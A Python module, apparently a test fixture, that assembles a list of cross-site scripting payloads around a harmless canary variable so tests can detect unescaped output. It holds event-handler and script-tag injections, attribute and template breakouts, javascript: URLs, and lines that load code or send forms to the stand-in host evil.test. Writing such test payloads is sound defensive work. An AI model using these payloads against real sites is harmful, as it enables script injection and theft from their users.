"""Texts that would run a script, load something or change a page if a page took them for code."""

from typing import Final

_CODE: Final = "window.__canary=1"
_EVENTS: Final = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>",
    "<iframe onload={0}>",
    "<object data=x onerror={0}>",
    "<style onload={0}>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<x onclick={0} tabindex=1 onfocus={0} autofocus>",
)
_TAGS: Final = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script src=//evil.test/x.js></script>",
    "<script/x>{0}</script>",
    "<<script>{0}//<</script>",
    "<script type=module>{0}</script>",
    "<svg><script>{0}</script></svg>",
    "<math><mtext><script>{0}</script></math>",
    '<iframe srcdoc="<script>parent.{0}</script>">',
    "<iframe src=javascript:parent.{0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<form action=//evil.test/><button autofocus>x",
    "<img src=//evil.test/x.png>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<a href=javascript:{0} autofocus>x</a>",
)
_BREAKOUTS: Final = (
    "'\"><img src=x onerror={0}>",
    '" onfocus={0} autofocus x="',
    "' onfocus={0} autofocus x='",
    "` onfocus={0} autofocus x=`",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    '"}};{0};//',
    "');{0};//",
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{% set x = {0} %}}",
)
_ADDRESSES: Final = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "\x01javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "https://evil.test/'\"><img src=x onerror={0}>",
)
PAYLOADS: Final = tuple(
    template.format(_CODE) for template in (*_EVENTS, *_TAGS, *_BREAKOUTS, *_ADDRESSES)
)
MARK: Final = "__canary"
"""A part of every payload that has code, to see that pages show it."""
